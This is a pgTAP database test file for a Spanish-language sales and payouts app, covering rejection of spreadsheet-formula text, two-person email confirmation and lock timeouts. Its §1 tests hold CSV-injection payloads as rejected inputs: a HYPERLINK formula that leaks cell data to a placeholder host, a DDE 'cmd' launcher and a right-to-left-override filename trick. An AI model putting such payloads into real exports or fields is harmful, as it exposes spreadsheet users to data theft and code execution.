-- The rules of issue 23 that hold for every path, an operator's SQL and the engine's functions
-- included (the integration tests attack them through PostgREST as each persona):
--   §1 text that a spreadsheet would run as a formula never enters the tables that reach exports;
--   §2 an address staff chose opens no account until someone else confirms it;
--   §6 every function that moves stock or money bounds its lock waits and answers contention in Spanish.
begin;
\ir _helpers.psql
select plan(29);

-- §1 The one check (private.refuse_formula) ----------------------------------------------------------------------
create function pg_temp.formula_refusal(p_value text) returns text language plpgsql as $$
begin
  perform private.refuse_formula(p_value, 'el nombre', 'name');
  return null;
exception when others then
  return sqlerrm;
end
$$;
select is(pg_temp.formula_refusal(v), 'No empieces el nombre con =, + ni @: una hoja de cálculo ejecutaría ese texto como una fórmula.',
          format('%s se rechaza', v))
  from unnest(array['=1+1', '+57 300', '@SUMA(A1)', E'\t=HYPERLINK("x")', '  =x', '＝1+1']) v;
select is(pg_temp.formula_refusal(v), null, format('%s se acepta', coalesce(v, 'null')))
  from unnest(array['-10 % de descuento', 'Té = calma', 'correo@ejemplo.com', null]) v;

-- …and the tables that carry people's text, whoever writes them (here an operator, as postgres).
select throws_ok($$ insert into public.clients (name, email) values ('=HYPERLINK("https://x.test/?"&A1)', 'formula@tests.savia') $$,
  'P0001', 'No empieces el nombre con =, + ni @: una hoja de cálculo ejecutaría ese texto como una fórmula.', 'clients: el nombre');
select throws_ok($$ update public.clients set document_number = '@1' where id = (select id from tests.fx where key = 'a') $$,
  'P0001', 'No empieces el documento con =, + ni @: una hoja de cálculo ejecutaría ese texto como una fórmula.', 'clients: el documento');
select throws_ok($$ insert into public.sales (client_id, kind, status, payment_reference)
                    values ((select id from tests.fx where key = 'a'), 'order', 'Pendiente de Aprobación', '=1') $$,
  'P0001', 'No empieces la referencia del pago con =, + ni @: una hoja de cálculo ejecutaría ese texto como una fórmula.', 'sales: la referencia');
select throws_ok($$ insert into public.payout_requests (client_id, amount, payment_details) values ((select id from tests.fx where key = 'a'), 20, '=cmd|'' /C calc''!A0') $$,
  'P0001', 'No empieces los datos de pago con =, + ni @: una hoja de cálculo ejecutaría ese texto como una fórmula.', 'payout_requests: los datos de pago');
select throws_ok($$ update public.products set name = '+Té' where id = (select id from tests.fx where key = 'product') $$,
  'P0001', 'No empieces el nombre del producto con =, + ni @: una hoja de cálculo ejecutaría ese texto como una fórmula.', 'products: el nombre');
select throws_ok($$ insert into public.suppliers (name) values ('@Proveedor') $$,
  'P0001', 'No empieces el nombre del proveedor con =, + ni @: una hoja de cálculo ejecutaría ese texto como una fórmula.', 'suppliers: el nombre');

-- …nor characters that change how the text reads (a right-to-left override, a control character), on the same columns.
select throws_ok($$ insert into public.clients (name, email) values (E'Ana \u202Egpj.exe', 'bidi@tests.savia') $$,
  'P0001', 'Hay caracteres invisibles o de control en el nombre: cambian cómo se lee el texto en las pantallas y los archivos. Quítalos.', 'clients: una marca de dirección');
select throws_ok($$ insert into public.sales (client_id, kind, status, notes)
                    values ((select id from tests.fx where key = 'a'), 'order', 'Pendiente de Aprobación', E'Entregar\u0007 rápido') $$,
  'P0001', 'Hay caracteres invisibles o de control en la nota: cambian cómo se lee el texto en las pantallas y los archivos. Quítalos.', 'sales: un carácter de control');
select lives_ok($$ update public.clients set address = E'Calle 1\nApto 2', name = 'Zoë 👩‍💻' where id = (select id from tests.fx where key = 'a') $$,
  'un salto de línea y un emoji con su unión de ancho cero se aceptan');

-- §2 The second pair of eyes ---------------------------------------------------------------------------------------
select tests.authenticate_as('superadmin');
select public.update_client_contact((select id from tests.fx where key = 'root'), 'Raíz Prueba', 'raiz.otra@tests.savia') is not null as changed \gset
select tests.clear_authentication();
select is(public.before_user_created_hook('{"user": {"email": "raiz.otra@tests.savia"}}') -> 'error' ->> 'http_code', '403',
  'nadie crea una cuenta con un correo que cambió el personal y nadie más confirmó');
select is(tests.error_as('superadmin', $$select public.confirm_client_email({root})$$),
  'Tú cambiaste este correo: debe confirmarlo otra persona del personal.', 'quien lo cambió no lo confirma');
select lives_ok($$ select tests.authenticate_as('admin'); select public.confirm_client_email((select id from tests.fx where key = 'root'));
                   select tests.clear_authentication() $$, 'otra persona del personal sí');
select is(public.before_user_created_hook('{"user": {"email": "raiz.otra@tests.savia"}}'), '{}'::jsonb, 'y entonces se puede entrar con él');
select ok((select auth_uid from public.clients where id = (select id from tests.fx where key = 'root')) is null, 'la cuenta aún no existía');
select tests.create_auth_user('raiz.otra@tests.savia') is not null as created \gset
select ok((select auth_uid is not null from public.clients where id = (select id from tests.fx where key = 'root')), 'al entrar, queda vinculada');

-- An invitation never wins over a member's address (whatever got around invite_staff and
-- update_client_contact): the member's account stays the member's.
insert into public.staff_invitations (email, role) values ('a2@tests.savia', 'superadmin');
select tests.create_auth_user('a2@tests.savia') as a2_user \gset
select is((select role from public.users_roles where user_id = :'a2_user'), 'cliente', 'quien entra con el correo de un miembro es ese miembro');
select is((select status from public.staff_invitations where email = 'a2@tests.savia'), 'pending', 'y la invitación no se usa');

-- §6 Contention: every function that moves stock or money waits at most 3 s for a lock --------------------------------
select is_empty($$
  select p.oid::regprocedure::text from pg_proc p
   where p.oid in ('public.register_restock(uuid, jsonb, text)'::regprocedure, 'public.adjust_stock(uuid, text, integer, text)'::regprocedure,
                   'public.approve_sale(uuid, boolean)'::regprocedure, 'public.cancel_sale(uuid, text)'::regprocedure,
                   'public.create_direct_sale(uuid, jsonb, text, text, text, text, text, text, text, text, uuid)'::regprocedure,
                   'public.request_payout(numeric, text, uuid)'::regprocedure, 'public.approve_payout(uuid)'::regprocedure,
                   'public.pay_payout(uuid, text)'::regprocedure, 'public.reject_payout(uuid, text)'::regprocedure,
                   -- issue 24: the bank's files and its reply lock the requests they pay or give back
                   'public.export_payout_file(uuid[], text)'::regprocedure, 'public.void_payout_batch(uuid, text)'::regprocedure,
                   'public.apply_payout_reply(text, text, bigint)'::regprocedure)
     and not ('lock_timeout=3s' = any (coalesce(p.proconfig, '{}'))
              and p.prosrc ~ 'exception when lock_not_available or deadlock_detected then\s+perform private.refuse_busy\(\);')
$$, 'las funciones que mueven stock o dinero esperan 3 s como máximo y responden la contención con savia:busy');
select throws_ok($$ select private.refuse_busy() $$, 'PT409',
  'Otra operación está cambiando los mismos datos en este momento; no se guardó nada. Inténtalo de nuevo en unos segundos.',
  'la contención es un 409 en español (PostgREST responde PTxxx con ese estado)');

select * from finish();
rollback;
